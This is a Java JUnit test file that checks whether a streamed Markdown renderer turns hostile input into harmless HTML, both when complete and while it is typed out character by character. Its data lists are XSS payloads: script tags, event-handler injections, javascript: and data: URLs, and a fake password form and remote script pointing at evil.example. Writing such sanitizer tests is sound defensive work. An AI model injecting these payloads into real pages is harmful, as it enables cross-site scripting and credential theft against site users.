package dev.stepwise.ui.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class HostileTextTest {

    private static final List<String> SCRIPTS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<body onload=alert(1)>",
            "<details open ontoggle=alert(1)>x</details>",
            "<math><mtext><style><img src=x onerror=alert(1)>",
            "<form action=https://evil.example><input type=password></form>",
            "<vaadin-button onclick=alert(1)>x</vaadin-button>",
            "<style>*{display:none}</style>",
            "<p style=\"position:fixed;inset:0\">x</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<base href=https://evil.example>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<object data=javascript:alert(1)></object>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?php echo 1 ?><script>alert(1)</script>",
            "</div></div><script>alert(1)</script>",
            "\"><script>alert(1)</script>",
            "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;");

    private static final List<String> ADDRESSES = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "  javascript:alert(1)",
            "java\tscript:alert(1)",
            "java&#10;script:alert(1)",
            "&#106;avascript:alert(1)",
            "\\javascript:alert(1)",
            "javascript&colon;alert(1)",
            "\u0001javascript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "blob:https://evil.example/x",
            "file:///etc/passwd",
            "//evil.example",
            "/logout",
            "?logout",
            "#x",
            "",
            "https://a.example/\"onmouseover=\"alert(1)",
            "https://a.example/'><script>alert(1)</script>");

    static List<String> payloads() {
        var payloads = new ArrayList<String>();
        for (var script : SCRIPTS) {
            payloads.add(script);
            payloads.add("text " + script + " text");
            payloads.add("- " + script + "\n\n> " + script);
            payloads.add("| a |\n|---|\n| " + script + " |");
            payloads.add("```" + script + "\n" + script);
            payloads.add("[x](https://a.example \"" + script + "\")");
        }
        for (var address : ADDRESSES) {
            payloads.add("[x](" + address + ")");
            payloads.add("[x](<" + address + ">)");
            payloads.add("![x](" + address + ")");
            payloads.add("<" + address + ">");
            payloads.add("[x]\n\n[x]: " + address);
            payloads.add("[![x](" + address + ")](" + address + ")");
        }
        return payloads;
    }

    @Test
    void there_are_more_than_a_hundred() {
        assertThat(payloads()).hasSizeGreaterThan(200);
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothing_but_text_and_its_structure_is_rendered(String payload) {
        Html.requireHarmless(StreamedMarkdownTest.render(payload));
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void nothing_else_is_on_the_page_while_it_is_written(String payload) {
        var markdown = new StreamedMarkdown();
        for (int end = 1; end <= payload.length(); end++) {
            markdown.update(payload.substring(0, end));
            Html.requireHarmless(markdown.html());
        }
    }
}
